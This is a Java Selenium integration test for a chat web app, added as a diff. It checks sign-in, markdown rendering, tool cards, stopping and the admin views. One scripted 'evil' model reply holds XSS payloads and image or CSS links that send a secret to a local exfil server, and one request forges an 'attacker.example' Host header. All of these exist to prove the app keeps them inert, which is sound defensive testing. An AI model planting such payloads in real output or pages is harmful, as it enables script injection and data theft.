@@ -1,0 +1,764 @@
+package dev.baton.server.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.sun.net.httpserver.HttpServer;
+import dev.baton.core.agent.TurnLimits;
+import dev.baton.server.app.BatonServer;
+import dev.baton.server.auth.JwtSecret;
+import dev.baton.server.auth.TokenMinter;
+import dev.baton.server.config.BatonConfig;
+import dev.baton.server.config.ConfigLoader;
+import dev.baton.server.config.ModelSettings;
+import dev.baton.simulator.Condition;
+import dev.baton.simulator.Fault;
+import dev.baton.simulator.LlmSimulator;
+import dev.baton.simulator.Pacing;
+import dev.baton.simulator.Reply;
+import dev.baton.simulator.Rule;
+import dev.baton.simulator.SimulatorScript;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.io.UncheckedIOException;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.concurrent.atomic.AtomicReference;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
+import org.junit.jupiter.api.io.TempDir;
+import org.openqa.selenium.By;
+import org.openqa.selenium.Dimension;
+import org.openqa.selenium.JavascriptExecutor;
+import org.openqa.selenium.Keys;
+import org.openqa.selenium.OutputType;
+import org.openqa.selenium.WebElement;
+import org.openqa.selenium.chrome.ChromeDriver;
+import org.openqa.selenium.interactions.Actions;
+import org.openqa.selenium.logging.LogEntry;
+import org.openqa.selenium.logging.LogType;
+import org.openqa.selenium.support.ui.ExpectedConditions;
+import org.openqa.selenium.support.ui.Select;
+import org.openqa.selenium.support.ui.WebDriverWait;
+
+/**
+ * The web app at / in a real browser (headless Chromium through Selenium) against a real server whose answers come
+ * from a scripted LLM simulator: development sign-in, markdown, tool cards, stop, history after a reload, a phone's
+ * screen, inert HTML in answers, a readable rate-limit error, the admin views, and token sign-in on a server with a
+ * configured secret. Screenshots of each state go to {@code target/screenshots/webapp/}.
+ *
+ * <p>The tests share one browser and run in order, as a person would use the app; each still sets up what it checks.
+ */
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
+class WebAppBrowserIT {
+
+    static final Path SHOTS = Path.of("target", "screenshots", "webapp");
+    static final Map<String, Set<String>> ROLES = roles();
+
+    static final String MARKDOWN = """
+            ## Your week at a glance
+
+            Here is what I found — **three** things matter:
+
+            1. Finish the *report*
+            2. Call the dentist
+            3. Water the plants
+
+            | Day | Task |
+            |-----|------|
+            | Mon | Report |
+            | Tue | Dentist |
+
+            ```java
+            public record Task(String title, boolean done) {}
+            ```
+
+            More in [the docs](https://example.org/docs).
+            """;
+    static final String SLOW = ("Let me think about this carefully, one step at a time, because it deserves a "
+                    + "thorough answer. ")
+            .repeat(8);
+    static final String HELLO = "Hello! How can I help you today?";
+
+    @TempDir
+    static Path dir;
+
+    static final ShiftedClock clock = new ShiftedClock();
+    static final AtomicInteger exfilHits = new AtomicInteger();
+    static HttpServer exfil;
+    static LlmSimulator simulator;
+    static BatonServer server;
+    static BatonServer tokenOnlyServer;
+    static String base;
+    static String secret;
+    static ApiClient api;
+    static ChromeDriver browser;
+    static WebDriverWait wait;
+
+    @BeforeAll
+    static void start() throws IOException {
+        Chromium.Installation chromium = Chromium.require();
+        Files.createDirectories(SHOTS);
+        exfil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        exfil.createContext("/", exchange -> {
+            exfilHits.incrementAndGet();
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
+        exfil.start();
+        simulator = LlmSimulator.start(
+                script("http://127.0.0.1:" + exfil.getAddress().getPort()));
+
+        // what `baton serve` does with no secret configured: generate one and say so
+        secret = JwtSecret.generate();
+        server = BatonServer.start(
+                config(secret, "web.db"),
+                new BatonServer.Options("127.0.0.1", clock, Duration.ofMillis(200), simulator.baseUrl())
+                        .withGeneratedJwtSecret(true));
+        base = "http://127.0.0.1:" + server.port();
+        api = new ApiClient(base);
+        seedUsage();
+
+        tokenOnlyServer = BatonServer.start(
+                config(TestServer.SECRET, "token-only.db"),
+                new BatonServer.Options("127.0.0.1", Clock.systemUTC(), Duration.ofMillis(200), simulator.baseUrl()));
+
+        browser = Chromium.start(chromium, Files.createDirectories(dir.resolve("profile")), 1280, 860);
+        wait = new WebDriverWait(browser, Duration.ofSeconds(20));
+        // what a person's click grants: the copy buttons may write to the clipboard
+        browser.executeCdpCommand(
+                "Browser.grantPermissions",
+                Map.of("origin", base, "permissions", List.of("clipboardReadWrite", "clipboardSanitizedWrite")));
+    }
+
+    @AfterAll
+    static void stop() {
+        if (browser != null) browser.quit();
+        if (server != null) server.close();
+        if (tokenOnlyServer != null) tokenOnlyServer.close();
+        if (simulator != null) simulator.close();
+        if (exfil != null) exfil.stop(0);
+    }
+
+    /** Whatever a test did, the page broke no rule of its Content-Security-Policy and threw no error. */
+    @AfterEach
+    void the_console_shows_no_policy_violation_or_script_error() {
+        List<String> problems = browser.manage().logs().get(LogType.BROWSER).getAll().stream()
+                .map(LogEntry::getMessage)
+                .filter(m -> m.contains("Content Security Policy") || m.contains("Uncaught") || m.contains("TypeError"))
+                .toList();
+        assertThat(problems).isEmpty();
+    }
+
+    // --- sign-in -----------------------------------------------------------------------------------------------
+
+    @Test
+    @Order(1)
+    void a_server_that_generated_its_secret_signs_a_local_browser_in_as_the_development_user() {
+        browser.get(base + "/");
+        browser.executeScript("localStorage.clear()");
+        browser.navigate().refresh();
+
+        WebElement button = wait.until(ExpectedConditions.elementToBeClickable(By.id("dev-signin-button")));
+        assertThat(text(".dev-badge")).isEqualToIgnoringCase("Development only");
+        assertThat(text("#dev-signin-note")).contains("demo", "generated its own signing secret");
+        assertThat(browser.findElement(By.id("token")).isDisplayed())
+                .as("the token field stays")
+                .isTrue();
+        shot("01-sign-in");
+
+        button.click();
+
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
+        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("who"), "demo"));
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("admin-link")));
+        assertThat(browser.findElement(By.id("sim-banner")).isDisplayed()).isTrue();
+    }
+
+    @Test
+    @Order(2)
+    void development_sign_in_is_refused_to_anything_but_a_browser_on_the_same_machine() throws IOException {
+        String rebound = rawPost(server.port(), "/web/dev-token", "attacker.example:" + server.port());
+
+        assertThat(rebound).startsWith("HTTP/1.1 403");
+        assertThat(rebound).contains("\"forbidden\"").doesNotContain("\"token\"");
+        assertThat(api.get("/web/settings", null)
+                        .body()
+                        .path("devSignIn")
+                        .path("available")
+                        .asBoolean())
+                .isTrue();
+    }
+
+    // --- chatting ----------------------------------------------------------------------------------------------
+
+    @Test
+    @Order(3)
+    void a_markdown_answer_is_rendered_with_highlighted_code_copy_buttons_and_safe_links() {
+        openApp();
+        newChat("tasks");
+
+        send("Show me some markdown please");
+
+        WebElement answer = awaitAnswer();
+        WebElement md = answer.findElement(By.cssSelector(".markdown"));
+        assertThat(md.findElement(By.tagName("h2")).getText()).isEqualTo("Your week at a glance");
+        assertThat(md.findElement(By.tagName("strong")).getText()).isEqualTo("three");
+        assertThat(md.findElements(By.cssSelector("ol li"))).hasSize(3);
+        assertThat(md.findElements(By.cssSelector(".table-wrap table tbody tr")))
+                .hasSize(2);
+        WebElement code = md.findElement(By.cssSelector(".code-block pre code"));
+        assertThat(code.getAttribute("class")).contains("hljs", "language-java");
+        assertThat(code.findElements(By.cssSelector("span[class^='hljs-']"))).isNotEmpty();
+        assertThat(text(md.findElement(By.cssSelector(".code-block .code-lang"))))
+                .isEqualTo("java");
+        WebElement copy = md.findElement(By.cssSelector(".code-block .copy-button"));
+        assertThat(copy.getAttribute("aria-label")).isEqualTo("Copy code (java)");
+        WebElement link = md.findElement(By.linkText("the docs"));
+        assertThat(link.getAttribute("rel")).isEqualTo("noopener noreferrer");
+        assertThat(link.getAttribute("target")).isEqualTo("_blank");
+        assertThat(answer.findElement(By.cssSelector(".message-foot .meta")).getText())
+                .contains("tokens");
+        // the live region reads the finished answer once, as text
+        wait.until(d -> text("#announcer").startsWith("Task assistant answered: Your week at a glance"));
+        shot("02-markdown-answer");
+
+        copy.click();
+        wait.until(d -> copy.getText().equals("Copied"));
+        assertThat(browser.executeAsyncScript("navigator.clipboard.readText().then(arguments[0])"))
+                .isEqualTo("public record Task(String title, boolean done) {}\n");
+    }
+
+    @Test
+    @Order(4)
+    void tool_calls_show_as_collapsible_cards_with_arguments_result_duration_and_failures() {
+        openApp();
+        newChat("tasks");
+
+        send("Please add a task for me");
+        WebElement ok = wait.until(
+                ExpectedConditions.presenceOfElementLocated(By.cssSelector(".tool-card[data-state='succeeded']")));
+        awaitAnswer();
+        send("Now try the broken tool");
+        WebElement failed =
+                wait.until(ExpectedConditions.presenceOfElementLocated(By.cssSelector(".tool-card.failed")));
+        awaitAnswerCount(2);
+
+        assertThat(ok.getAttribute("open")).as("collapsed until opened").isNull();
+        ok.findElement(By.tagName("summary")).click();
+        failed.findElement(By.tagName("summary")).click();
+        assertThat(text(ok.findElement(By.cssSelector(".tool-name")))).isEqualTo("add_task");
+        assertThat(text(ok.findElement(By.cssSelector(".tool-status")))).isEqualTo("Done");
+        assertThat(text(ok.findElement(By.cssSelector(".tool-duration")))).matches("\\d+(\\.\\d)? m?s");
+        List<WebElement> sections = ok.findElements(By.cssSelector(".tool-section pre"));
+        assertThat(sections.get(0).getText()).contains("\"title\": \"buy oat milk\"", "\n");
+        assertThat(sections.get(1).getText()).contains("buy oat milk");
+        assertThat(ok.findElement(By.cssSelector("[data-slot='approval']")).isDisplayed())
+                .as("room for approve/deny, unused until approvals exist")
+                .isFalse();
+        assertThat(text(failed.findElement(By.cssSelector(".tool-name")))).isEqualTo("complete_task");
+        assertThat(text(failed.findElement(By.cssSelector(".tool-status")))).isNotEqualTo("Done");
+        assertThat(text(failed.findElement(By.cssSelector(".tool-error")))).isNotBlank();
+        shot("03-tool-cards");
+    }
+
+    @Test
+    @Order(5)
+    void stop_turns_a_slow_answer_into_a_stopped_one_not_an_error() {
+        openApp();
+        newChat("tasks");
+
+        send("Give me a slow answer");
+        WebElement stop = wait.until(ExpectedConditions.elementToBeClickable(By.id("stop")));
+        wait.until(d -> lastAnswer().findElements(By.cssSelector(".markdown")).stream()
+                .anyMatch(m -> m.getText().length() > 20));
+        assertThat(text("#announcer")).as("chunks are not announced").doesNotContain("Let me think");
+        stop.click();
+
+        WebElement answer = lastAnswer();
+        wait.until(d -> !answer.findElements(By.cssSelector(".badge.stopped")).isEmpty());
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
+        assertThat(browser.findElements(By.cssSelector(".notice.error"))).isEmpty();
+        String partial = answer.findElement(By.cssSelector(".markdown")).getText();
+        assertThat(partial).isNotBlank();
+        assertThat(partial.length()).isLessThan(SLOW.strip().length());
+        assertThat(text(answer.findElement(By.cssSelector(".message-foot .meta"))))
+                .contains("stopped");
+        wait.until(d -> text("#announcer").equals("Answer stopped."));
+        shot("04-stopped");
+
+        browser.navigate().refresh();
+        WebElement stored = wait.until(d -> d.findElements(By.cssSelector("article.message.assistant")).stream()
+                .filter(a -> !a.findElements(By.cssSelector(".badge.stopped")).isEmpty())
+                .findFirst()
+                .orElse(null));
+        assertThat(stored.findElement(By.cssSelector(".markdown")).getText()).startsWith("Let me think");
+    }
+
+    @Test
+    @Order(6)
+    void after_a_reload_the_sidebar_lists_conversations_newest_first_and_reopens_their_history() {
+        openApp();
+        newChat("tasks");
+        send("First topic: plan the garden");
+        awaitAnswer();
+        String firstUrl = browser.getCurrentUrl();
+        newChat("study");
+        send("Second topic: book the trip");
+        awaitAnswer();
+        String secondUrl = browser.getCurrentUrl();
+        assertThat(secondUrl).contains("#/c/").isNotEqualTo(firstUrl);
+
+        // titles come back from the server too, not only from this browser's cache
+        browser.executeScript("localStorage.removeItem('baton.titles')");
+        browser.navigate().refresh();
+
+        wait.until(d -> titles().contains("First topic: plan the garden"));
+        List<String> titles = titles();
+        assertThat(titles.indexOf("Second topic: book the trip"))
+                .isLessThan(titles.indexOf("First topic: plan the garden"));
+        assertThat(browser.getCurrentUrl()).isEqualTo(secondUrl);
+        wait.until(d -> userMessages().contains("Second topic: book the trip"));
+        assertThat(text("#chat-title")).isEqualTo("Second topic: book the trip");
+        shot("05-sidebar-after-reload");
+
+        conversation("First topic: plan the garden")
+                .findElement(By.cssSelector("a"))
+                .click();
+        wait.until(d -> userMessages().contains("First topic: plan the garden"));
+        assertThat(lastAnswer().getText()).contains(HELLO);
+        assertThat(browser.getCurrentUrl()).isEqualTo(firstUrl);
+
+        String id = firstUrl.substring(firstUrl.indexOf("#/c/") + 4);
+        WebElement delete =
+                conversation("First topic: plan the garden").findElement(By.cssSelector(".conversation-delete"));
+        new Actions(browser).moveToElement(delete).click().perform();
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("confirm-delete")));
+        browser.findElement(By.id("confirm-delete-ok")).click();
+
+        wait.until(d -> !titles().contains("First topic: plan the garden"));
+        wait.until(d -> browser.getCurrentUrl().endsWith("#/"));
+        assertThat(api.get("/v1/sessions/" + id, devToken()).status()).isEqualTo(404);
+    }
+
+    @Test
+    @Order(7)
+    void on_a_phone_the_sidebar_is_a_drawer_and_the_chat_fits_the_screen() {
+        openApp();
+        newChat("tasks");
+        send("Show me markdown on a phone");
+        awaitAnswer();
+        try {
+            browser.manage().window().setSize(new Dimension(390, 844));
+            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("open-sidebar")));
+
+            wait.until(ExpectedConditions.invisibilityOfElementLocated(By.id("sidebar")));
+            assertThat(browser.findElement(By.id("message")).isDisplayed()).isTrue();
+            assertThat((Boolean)
+                            browser.executeScript("return document.documentElement.scrollWidth <= window.innerWidth"))
+                    .as("nothing wider than the screen")
+                    .isTrue();
+            shot("06-phone-chat");
+
+            browser.findElement(By.id("open-sidebar")).click();
+            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("sidebar")));
+            // slid all the way in
+            wait.until(d -> ((Number) browser.executeScript(
+                                    "return document.getElementById('sidebar').getBoundingClientRect().left"))
+                            .doubleValue()
+                    == 0);
+            assertThat(browser.findElement(By.id("open-sidebar")).getAttribute("aria-expanded"))
+                    .isEqualTo("true");
+            shot("07-phone-drawer");
+            new Actions(browser).sendKeys(Keys.ESCAPE).perform();
+            wait.until(ExpectedConditions.invisibilityOfElementLocated(By.id("sidebar")));
+        } finally {
+            browser.manage().window().setSize(new Dimension(1280, 860));
+        }
+    }
+
+    // --- safety and errors -------------------------------------------------------------------------------------
+
+    @Test
+    @Order(8)
+    void markup_and_javascript_links_in_an_answer_stay_inert_and_its_images_are_not_loaded() {
+        openApp();
+        newChat("tasks");
+
+        send("Say something evil");
+
+        WebElement answer = awaitAnswer();
+        WebElement md = answer.findElement(By.cssSelector(".markdown"));
+        // the HTML the model wrote is shown as what it is: text
+        assertThat(md.getText())
+                .contains("Here you go: <img src=x onerror=", "<script>", "click me", "a safe link</a>");
+        for (String tag : List.of("img", "script", "iframe", "form", "button", "style", "svg")) {
+            assertThat(md.findElements(By.tagName(tag))).as(tag).isEmpty();
+        }
+        assertThat((Long) browser.executeScript("""
+                        return Array.from(arguments[0].querySelectorAll('*'))
+                            .flatMap(e => Array.from(e.attributes).map(a => a.name))
+                            .filter(n => n.startsWith('on') || n === 'style' || n === 'src').length""", md)).isZero();
+        for (WebElement a : md.findElements(By.tagName("a"))) {
+            String href = a.getAttribute("href");
+            if (href != null) assertThat(href).startsWith("https://");
+            if (href != null) assertThat(a.getAttribute("rel")).isEqualTo("noopener noreferrer");
+        }
+        assertThat(md.findElements(By.cssSelector(".blocked-image")).stream().map(WebAppBrowserIT::text))
+                .containsExactly("Image not shown: secret chart");
+
+        // what looked like javascript: links is text now: clicking it runs nothing
+        for (WebElement a : md.findElements(By.partialLinkText("click me"))) a.click();
+        assertThat(browser.executeScript("return window.__pwned === undefined")).isEqualTo(true);
+        assertThat(browser.executeScript(
+                        "return performance.getEntriesByType('resource').filter(e => e.name.includes('exfil')).length"))
+                .isEqualTo(0L);
+        assertThat(exfilHits).hasValue(0);
+        shot("08-inert-html");
+    }
+
+    @Test
+    @Order(9)
+    void a_provider_rate_limit_is_shown_as_a_readable_error_that_says_when_to_try_again() {
+        openApp();
+        newChat("tasks");
+        simulator.enqueueFault(Fault.rateLimited(30));
+
+        send("Hello there");
+
+        WebElement notice = wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".notice.error")));
+        assertThat(text(notice.findElement(By.cssSelector(".notice-title")))).isEqualTo("Too many messages right now");
+        assertThat(notice.getText()).containsPattern("You can send again in (29|30) seconds");
+        WebElement retry = notice.findElement(By.tagName("button"));
+        assertThat(retry.isEnabled()).isFalse();
+        assertThat(retry.getText()).startsWith("Try again in");
+        wait.until(d -> text("#announcer").startsWith("Too many messages right now"));
+        shot("09-rate-limited");
+    }
+
+    // --- admin -------------------------------------------------------------------------------------------------
+
+    @Test
+    @Order(10)
+    void an_admin_sees_usage_charts_by_user_agent_and_model_and_a_sessions_audit_trail() {
+        openApp();
+        newChat("private");
+        send("Please remember that my email is ada@example.org");
+        awaitAnswer();
+
+        WebElement auditLink = wait.until(ExpectedConditions.elementToBeClickable(By.id("audit-link")));
+        auditLink.click();
+
+        WebElement table = wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".audit-table")));
+        assertThat(table.getText()).contains("pii-redaction", "ada@example.org");
+        for (String dimension : List.of("user", "agent", "model")) {
+            WebElement canvas = wait.until(ExpectedConditions.presenceOfElementLocated(
+                    By.cssSelector("figure[data-dimension='" + dimension + "'] canvas")));
+            assertThat(browser.executeScript("return window.Chart.getChart(arguments[0]) !== undefined", canvas))
+                    .isEqualTo(true);
+        }
+        WebElement byUser = browser.findElement(By.cssSelector("figure[data-dimension='user']"));
+        byUser.findElement(By.tagName("summary")).click();
+        assertThat(byUser.findElement(By.tagName("table")).getText()).contains("ada", "grace", "demo");
+        assertThat(text("#usage-totals")).contains("Model calls");
+        browser.manage().window().setSize(new Dimension(1280, 1500));
+        try {
+            shot("10-admin-usage-and-audit");
+        } finally {
+            browser.manage().window().setSize(new Dimension(1280, 860));
+        }
+
+        new Select(browser.findElement(By.id("usage-measure"))).selectByValue("tokens");
+        wait.until(d -> text("#announcer").equals("Usage shown: Tokens (input + output)"));
+    }
+
+    // --- a server with a real secret ---------------------------------------------------------------------------
+
+    @Test
+    @Order(11)
+    void a_server_with_a_configured_secret_offers_no_development_sign_in_and_takes_a_pasted_token() {
+        String other = "http://127.0.0.1:" + tokenOnlyServer.port();
+        browser.get(other + "/");
+
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("signin-view")));
+        wait.until(d -> !text("#dev-signin-note").isEmpty());
+        assertThat(browser.findElement(By.id("dev-signin-button")).isEnabled()).isFalse();
+        assertThat(text("#dev-signin-note")).startsWith("Not available: this server verifies tokens");
+        assertThat(new ApiClient(other).post("/web/dev-token", null, "{}").status())
+                .isEqualTo(404);
+        shot("11-token-sign-in");
+
+        browser.findElement(By.id("token")).sendKeys("not-a-token");
+        browser.findElement(By.cssSelector("#token-form button[type='submit']")).click();
+        wait.until(d -> text("#signin-message").startsWith("The server did not accept your sign-in"));
+
+        browser.findElement(By.id("token")).sendKeys(TestServer.token("pat"));
+        browser.findElement(By.cssSelector("#token-form button[type='submit']")).click();
+
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
+        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("who"), "pat"));
+        assertThat(browser.findElement(By.id("admin-link")).isDisplayed())
+                .as("a student is no admin")
+                .isFalse();
+    }
+
+    // --- helpers -----------------------------------------------------------------------------------------------
+
+    /** The app, signed in as the development user. */
+    private static void openApp() {
+        browser.get(base + "/#/");
+        // a fresh page: going to "#/" from "#/c/…" alone would only change the hash
+        browser.navigate().refresh();
+        wait.until(d -> d.findElement(By.id("app")).isDisplayed()
+                || d.findElement(By.id("dev-signin-button")).isEnabled());
+        if (!browser.findElement(By.id("app")).isDisplayed()) {
+            browser.findElement(By.id("dev-signin-button")).click();
+            wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("app")));
+        }
+        wait.until(d -> !new Select(d.findElement(By.id("agent"))).getOptions().isEmpty());
+    }
+
+    private static void newChat(String agentId) {
+        new Select(browser.findElement(By.id("agent"))).selectByValue(agentId);
+        browser.findElement(By.id("new-chat")).click();
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("#log .empty-state")));
+    }
+
+    /** Types into the message box and presses Enter, as a person would. */
+    private static void send(String message) {
+        WebElement box = wait.until(ExpectedConditions.elementToBeClickable(By.id("message")));
+        box.sendKeys(message);
+        box.sendKeys(Keys.ENTER);
+    }
+
+    private static WebElement lastAnswer() {
+        List<WebElement> answers = browser.findElements(By.cssSelector("#log article.message.assistant"));
+        return answers.getLast();
+    }
+
+    /** The newest answer, once it is complete (its footer says which model wrote it). */
+    private static WebElement awaitAnswer() {
+        wait.until(d -> !d.findElements(By.cssSelector("#log article.message.assistant"))
+                        .isEmpty()
+                && !lastAnswer()
+                        .findElements(By.cssSelector(".message-foot .meta"))
+                        .isEmpty());
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("send")));
+        return lastAnswer();
+    }
+
+    private static void awaitAnswerCount(int n) {
+        wait.until(d ->
+                d.findElements(By.cssSelector("#log article.message.assistant")).size() == n
+                        && !lastAnswer()
+                                .findElements(By.cssSelector(".message-foot .meta"))
+                                .isEmpty());
+    }
+
+    private static List<String> titles() {
+        return texts("#conversations .conversation-title");
+    }
+
+    private static List<String> userMessages() {
+        return texts("#log article.message.user .bubble");
+    }
+
+    /** The text of each element matching {@code css}, read at one moment (the page may redraw between reads). */
+    @SuppressWarnings("unchecked")
+    private static List<String> texts(String css) {
+        return (List<String>) browser.executeScript(
+                "return Array.from(document.querySelectorAll(arguments[0])).map(e => e.textContent.trim())", css);
+    }
+
+    private static WebElement conversation(String title) {
+        return browser.findElements(By.cssSelector("#conversations li.conversation")).stream()
+                .filter(li -> li.findElement(By.cssSelector(".conversation-title"))
+                        .getText()
+                        .equals(title))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    private static String text(String css) {
+        return text(browser.findElement(By.cssSelector(css)));
+    }
+
+    /** textContent: also of elements a screen reader sees but the eye does not (the live region). */
+    private static String text(WebElement element) {
+        Object t = ((JavascriptExecutor) browser).executeScript("return arguments[0].textContent.trim()", element);
+        return t == null ? "" : t.toString();
+    }
+
+    private static void shot(String name) {
+        try {
+            Files.write(SHOTS.resolve(name + ".png"), browser.getScreenshotAs(OutputType.BYTES));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static String devToken() {
+        return api.post("/web/dev-token", null, "{}").body().path("token").asText();
+    }
+
+    private static String token(String user, String... roles) {
+        return new TokenMinter(JwtSecret.of(secret))
+                .mint(TokenMinter.Claims.user(user, roles), Instant.now(), Duration.ofHours(1));
+    }
+
+    /** A POST with a Host header of our choosing (HttpClient will not send one): what a rebinding page sends. */
+    private static String rawPost(int port, String path, String host) throws IOException {
+        try (Socket socket = new Socket("127.0.0.1", port)) {
+            OutputStream out = socket.getOutputStream();
+            out.write(("POST " + path + " HTTP/1.1\r\nHost: " + host
+                            + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+                    .getBytes(StandardCharsets.US_ASCII));
+            out.flush();
+            InputStream in = socket.getInputStream();
+            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
+        }
+    }
+
+    /** Usage by other users on earlier days, so the admin charts have something over time to show. */
+    private static void seedUsage() {
+        record Seed(int daysAgo, String user, String agent, int messages) {}
+        List<Seed> seeds = List.of(
+                new Seed(6, "ada", "tasks", 2),
+                new Seed(5, "grace", "study", 1),
+                new Seed(4, "ada", "private", 1),
+                new Seed(2, "grace", "tasks", 3),
+                new Seed(1, "ada", "study", 2));
+        try {
+            for (Seed s : seeds) {
+                clock.shift(Duration.ofDays(-s.daysAgo()));
+                String token = token(s.user(), "student");
+                String session = api.startSession(token, s.agent());
+                for (int i = 0; i < s.messages(); i++) {
+                    ApiClient.Response r = api.post(
+                            "/v1/sessions/" + session + "/messages", token, "{\"content\":\"hello " + i + "\"}");
+                    assertThat(r.status()).as(r.raw()).isEqualTo(200);
+                }
+            }
+        } finally {
+            clock.shift(Duration.ZERO);
+        }
+    }
+
+    private static SimulatorScript script(String exfilBase) {
+        String evil = """
+                Here you go: <img src=x onerror="window.__pwned = 'img'"> and <script>window.__pwned = 'script'</script>
+
+                [click me](javascript:window.__pwned='link') and <a href="javascript:window.__pwned='raw'">raw link</a>
+
+                <iframe src="javascript:window.__pwned='frame'"></iframe>
+                <form action="https://example.org/"><button>Go</button></form>
+
+                ![secret chart](%1$s/exfil?secret=42) <img src="%1$s/exfil-raw">
+
+                <div style="background:url(%1$s/exfil-css)">styled</div>
+                <svg onload="window.__pwned='svg'"><circle r="4"/></svg>
+
+                <a href="https://example.org/" onclick="window.__pwned='click'">a safe link</a>
+                """.formatted(exfilBase);
+        return SimulatorScript.builder()
+                .whenUserSays("markdown", Reply.text(MARKDOWN))
+                .whenUserSays(
+                        "add a task",
+                        Reply.toolCall("add_task", "{\"title\":\"buy oat milk\",\"dueDate\":\"2026-12-01\"}"))
+                .whenToolResult("add_task", Reply.text("Added **buy oat milk** to your list."))
+                .whenUserSays("broken tool", Reply.toolCall("complete_task", "{\"taskId\":\"no-such-task\"}"))
+                .whenToolResult("complete_task", Reply.text("I could not find that task."))
+                .rule(Rule.when(new Condition.UserContains("slow"), Reply.text(SLOW))
+                        .withPacing(new Pacing(Duration.ZERO, 8, 1)))
+                .whenUserSays("evil", Reply.text(evil))
+                .whenUserSays("email", Reply.text("Thanks, noted."))
+                .always(Reply.text(HELLO))
+                .build();
+    }
+
+    private static BatonConfig config(String jwtSecret, String database) {
+        Path agents = dir.resolve("agents");
+        try {
+            Files.createDirectories(agents);
+            Files.writeString(agents.resolve("private.yaml"), """
+                    id: private
+                    name: Privacy-minded assistant
+                    description: Redacts e-mail addresses and card numbers before the model sees them.
+                    systemPrompt: You help with anything.
+                    modules: [pii-redaction]
+                    """);
+            JsonNode raw = ConfigLoader.yamlMapper().readTree("""
+                    rateLimits: { enabled: false }
+                    prices:
+                      models:
+                        "simulator:*": { input: 2, output: 8 }
+                    """);
+            return new BatonConfig(
+                    0,
+                    "jdbc:sqlite:" + dir.resolve(database),
+                    jwtSecret,
+                    new ModelSettings("simulator:default", null, null, Map.of()),
+                    TurnLimits.DEFAULTS,
+                    ROLES,
+                    List.of(agents),
+                    BatonConfig.DEFAULT_MAX_BODY_BYTES,
+                    raw,
+                    Map.of());
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static Map<String, Set<String>> roles() {
+        Set<String> chat = Set.of(
+                "tasks:read:self",
+                "tasks:write:self",
+                "notes:read:self",
+                "notes:write:self",
+                "sessions:read:self",
+                "sessions:write:self");
+        return Map.of("student", chat, "admin", Set.of("admin:audit", "admin:usage"));
+    }
+
+    /** The system clock, moved back by a set amount while the test seeds usage on earlier days. */
+    static final class ShiftedClock extends Clock {
+        private final AtomicReference<Duration> offset = new AtomicReference<>(Duration.ZERO);
+
+        void shift(Duration by) {
+            offset.set(by);
+        }
+
+        @Override
+        public Instant instant() {
+            return Instant.now().plus(offset.get());
+        }
+
+        @Override
+        public ZoneId getZone() {
+            return ZoneOffset.UTC;
+        }
+
+        @Override
+        public Clock withZone(ZoneId zone) {
+            return this;
+        }
+    }
+}
